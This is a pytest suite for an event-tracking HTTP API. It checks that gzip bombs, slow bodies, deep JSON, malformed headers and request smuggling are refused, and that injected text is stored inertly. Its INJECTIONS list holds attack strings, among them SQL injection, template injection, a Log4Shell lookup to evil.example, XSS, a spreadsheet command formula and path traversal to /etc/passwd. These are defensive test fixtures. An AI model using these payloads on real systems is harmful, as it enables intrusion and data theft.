"""Bad guests at the door for events: each refused with a clear sentence, counted, and nothing else
harmed. Keys are in ``test_keys``, floods and browsers in ``test_browsers``, unending heads in
``test_heads``.
"""

from __future__ import annotations

import gzip
import http.client
import re
import socket
import tracemalloc
import zlib
from contextlib import closing
from typing import Any

import orjson
import pytest

from engine.api import body as reading
from engine.core.signals import EventArrived, ProfileChanged

from .conftest import Api
from .test_calls import purchase

GZIP = {"content-encoding": "gzip"}


def counted(api: Api) -> dict[str, float]:
    """What Prometheus is told; asking is counted as well, so it is done twice."""
    api.get("/metrics")
    text = api.get("/metrics").body.decode()
    pairs = re.findall(r"^(\w+(?:\{[^}]*\})?) ([0-9.e+-]+)$", text, re.MULTILINE)
    return {name: float(value) for name, value in pairs}


def is_well(api: Api) -> bool:
    """Whether an honest guest is served as ever."""
    name = f"m-{len(api.store.arrivals)}"
    return api.send("/v1/track", purchase(name)).status == 200 and name in api.store.arrivals


class TestZipBombs:
    """Small on the way, and large when unpacked."""

    def test_a_bomb_is_never_unpacked_whole(self, api: Api) -> None:
        """A hundred megabytes in a hundred kilobytes; we look at no more than may come."""
        bomb = gzip.compress(b" " * 100_000_000, 9)
        assert len(bomb) < 500 * 1024
        tracemalloc.start()
        try:
            answer = api.send("/v1/batch", bomb, GZIP)
            _, most = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()

        assert (answer.status, answer.error) == (413, "The body is larger than 500 KB.")
        assert most < 8_000_000
        assert is_well(api)

    @pytest.mark.parametrize(
        "encoding", ["gzip, gzip", "deflate", "br", "zstd", "compress", "x-gzip", "gzip;q=1"]
    )
    def test_nothing_is_unpacked_twice_or_in_another_way(self, api: Api, encoding: str) -> None:
        answer = api.send("/v1/batch", gzip.compress(b"{}"), {"content-encoding": encoding})

        assert answer.status == 415

    def test_a_bomb_in_a_bomb_is_no_json(self, api: Api) -> None:
        inner = gzip.compress(b"{}" * 1_000_000)

        assert api.send("/v1/batch", gzip.compress(inner), GZIP).status == 400

    def test_one_bomb_behind_another_is_not_unpacked(self, api: Api) -> None:
        twice = gzip.compress(b"{}") + gzip.compress(b" " * 50_000_000)
        answer = api.send("/v1/batch", twice, GZIP)

        assert "something follows it" in answer.error

    def test_what_is_packed_without_a_head_is_no_gzip(self, api: Api) -> None:
        assert "not valid gzip" in api.send("/v1/batch", zlib.compress(b"{}"), GZIP).error


class TestSlowBodies:
    """Bytes that come one by one, or not at all."""

    @pytest.fixture(autouse=True)
    def impatient(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(reading, "_PATIENCE", 0.2)

    def test_a_body_that_does_not_come_is_given_up(self, api: Api) -> None:
        with closing(http.client.HTTPConnection("127.0.0.1", api.port, timeout=10)) as line:
            line.putrequest("POST", "/v1/track")
            line.putheader("content-type", "application/json")
            line.putheader("content-length", "100")
            line.putheader("x-api", api.name)
            line.endheaders()
            line.send(b"{")
            answer = line.getresponse()

            assert answer.status == 408
            assert b"did not arrive within" in answer.read()
        assert counted(api)['wayline_refused_requests_total{what="slow"}'] == 1
        assert is_well(api)

    def test_whoever_hangs_up_in_the_middle_leaves_nothing(self, api: Api) -> None:
        with socket.create_connection(("127.0.0.1", api.port), timeout=10) as line:
            head = f"POST /v1/track HTTP/1.1\r\nhost: x\r\nx-api: {api.name}\r\n"
            line.sendall(f"{head}content-length: 5000\r\n\r\n{{".encode())

        assert is_well(api)
        assert len(api.store.arrivals) == 1


class TestEndlessNames:
    """Names that somebody makes up: nothing of ours grows with them."""

    def test_a_million_names_of_events_leave_no_trace(self, api: Api) -> None:
        def send(first: int) -> None:
            calls = [purchase(f"m-{n}", event=f"Event {n}") for n in range(first, first + 2_000)]
            assert api.send("/v1/batch", {"batch": calls}).status == 400

        send(0)
        before = counted(api)
        for first in range(2_000, 10_000, 2_000):
            send(first)
        after = counted(api)

        assert before.keys() == after.keys()
        refused = 'wayline_events_total{result="refused"}'
        assert after[refused] - before[refused] == 8_000
        assert api.store.arrivals == {}

    def test_traits_pages_and_groups_that_nobody_declared_leave_none(self, api: Api) -> None:
        def send(n: int) -> None:
            who = {"userId": "ada", "messageId": f"m-{n}"}
            api.send("/v1/identify", {**who, "traits": {f"trait {n}": n}})
            api.send("/v1/group", {**who, "groupId": f"g{n}", "traits": {f"trait {n}": n}})
            api.send("/v1/page", {**who, "name": f"Page {n}"})

        send(0)
        before = counted(api).keys()
        for n in range(1, 20):
            send(n)

        assert counted(api).keys() == before

    def test_addresses_that_are_not_there_are_counted_together(self, api: Api) -> None:
        api.get("/v1/nothing")
        api.send("/v1/nothing", {})
        before = counted(api).keys()
        for n in range(20):
            api.get(f"/v1/{n}")
            api.send(f"/{n}/v1/track?{n}", {}, {f"x-{n}": "1"})

        assert counted(api).keys() == before

    def test_a_batch_has_an_end(self, api: Api) -> None:
        answer = api.send("/v1/batch", {"batch": [{}] * 2_501})

        assert (answer.status, answer.error) == (
            413,
            "These are 2501 events; send at most 2500 together.",
        )


class TestLargeAndDeep:
    """Too much, too deep, too large."""

    def test_a_profile_of_ten_megabytes_is_refused_and_its_neighbour_is_not(self, api: Api) -> None:
        large = {"userId": "eve", "type": "identify", "traits": {"first_name": "e" * 40_000}}
        answer = api.send("/v1/batch", {"batch": [large, purchase()]})
        whole = api.send("/v1/identify", {**large, "traits": {"first_name": "e" * 10_000_000}})

        assert answer.json["rejected"][0]["error"] == "This event is larger than 32 KB."
        assert answer.json["accepted"] == 1
        assert (whole.status, whole.error) == (413, "The body is larger than 32 KB.")

    @pytest.mark.parametrize("depth", [200, 2_000])
    @pytest.mark.parametrize("opening", [b"[", b'{"a":'])
    def test_deep_nesting_is_refused_or_left_out(
        self, api: Api, depth: int, opening: bytes
    ) -> None:
        closing_ = b"]" if opening == b"[" else b"}"
        deep = opening * depth + b"1" + closing_ * depth
        body = b'{"userId":"ada","messageId":"m","traits":{"shoe":' + deep + b"}}"
        answer = api.send("/v1/identify", body)

        assert answer.status == (200 if depth == 200 else 400)
        assert is_well(api)

    @pytest.mark.parametrize(
        "number",
        [b"1e400", b"-1e400", b"9" * 400, b"1e-400", b"0." + b"3" * 5_000, b"NaN", b"1e999999999"],
    )
    def test_numbers_without_measure_are_refused(self, api: Api, number: bytes) -> None:
        body = purchase()
        text = orjson.dumps(body).replace(b'"total":20', b'"total":' + number)
        answer = api.send("/v1/track", text)

        assert answer.status == 400 or number in (b"1e-400", b"0." + b"3" * 5_000)
        assert is_well(api)

    @pytest.mark.parametrize(
        "text", [b"\\u0000", b"\\ud800", b"\xed\xa0\x80", b"\x00", b"a\\u0000b"]
    )
    def test_text_that_cannot_be_kept_is_refused(self, api: Api, text: bytes) -> None:
        for body in (
            b'{"userId":"' + text + b'","traits":{}}',
            b'{"userId":"ada","traits":{"first_name":"' + text + b'"}}',
            b'{"userId":"ada","messageId":"' + text + b'","traits":{}}',
            b'{"anonymousId":"' + text + b'","traits":{}}',
        ):
            assert api.send("/v1/identify", body).status == 400
        assert api.store.arrivals == {}


INJECTIONS = (
    "'; drop table people; --",
    '" or 1=1 --',
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
    "%s%s%n",
)


@pytest.mark.parametrize("text", INJECTIONS)
def test_whatever_is_written_anywhere_is_kept_as_text(api: Api, text: str) -> None:
    """In an id, a name, a trait, a property, a page."""
    calls: list[dict[str, Any]] = [
        purchase(text, userId=text, properties={"order_id": text, "total": 1}),
        {
            "type": "identify",
            "messageId": f"{text} 2",
            "userId": text,
            "traits": {"first_name": text},
        },
    ]
    assert api.send("/v1/batch", {"batch": calls}).json["accepted"] == 2

    event, told = api.store.arrivals.values()
    assert isinstance(event, EventArrived)
    assert isinstance(told, ProfileChanged)
    assert (event.id, event.person, event.event.properties["order_id"]) == (text, text, text)
    assert told.attributes == {"first_name": text}
    unknown = api.send("/v1/track", purchase(event=text))
    assert unknown.headers["content-type"] == "application/problem+json"
    assert text[:100] in unknown.error


class TestHeaders:
    """Heads of requests that try to be something else."""

    @pytest.mark.parametrize(
        "headers",
        [
            {"x-http-method-override": "DELETE"},
            {"x-forwarded-host": "evil.example", "forwarded": "host=evil.example"},
            {"x-original-url": "/metrics", "x-rewrite-url": "/metrics"},
            {"traceparent": "00-zz-zz-zz"},
            {"traceparent": "x" * 5_000},
            {"content-type": "application/json; charset=utf-7"},
            {"accept": "text/html", "accept-language": "../../de"},
            {"host": "evil.example"},
        ],
    )
    def test_they_change_nothing(self, api: Api, headers: dict[str, str]) -> None:
        answer = api.send("/v1/track", purchase(), headers)

        assert (answer.status, answer.json) == (200, {"success": True})
        assert "evil" not in str(answer.headers)
        assert len(api.store.arrivals) == 1

    @pytest.mark.parametrize(
        "lines",
        [
            ["content-length: 2", "content-length: 3"],
            ["content-length: -1"],
            ["content-length: 0x10"],
            ["content-length: 2", "transfer-encoding: chunked", "transfer-encoding: identity"],
            ["transfer-encoding: gzip, chunked"],
            ["x: " + "y" * 100_000],
            ["a" * 70_000 + ": 1"],
            ["bad header: 1"],
        ],
    )
    def test_bodies_of_two_lengths_and_endless_heads_are_refused(
        self, api: Api, lines: list[str]
    ) -> None:
        with socket.create_connection(("127.0.0.1", api.port), timeout=10) as line:
            head = ["POST /v1/track HTTP/1.1", "host: x", f"x-api: {api.name}", *lines, "", "{}"]
            line.sendall("\r\n".join(head).encode())
            said = line.recv(4096)

        assert said.startswith((b"HTTP/1.1 400", b"HTTP/1.1 431", b"HTTP/1.1 501"))
        assert is_well(api)

    def test_no_answer_says_what_somebody_put_into_a_head(self, api: Api) -> None:
        answer = api.send("/v1/track", purchase(messageId="a\r\nset-cookie: x=1", userId=None))

        assert answer.status == 400
        assert "set-cookie" not in answer.headers
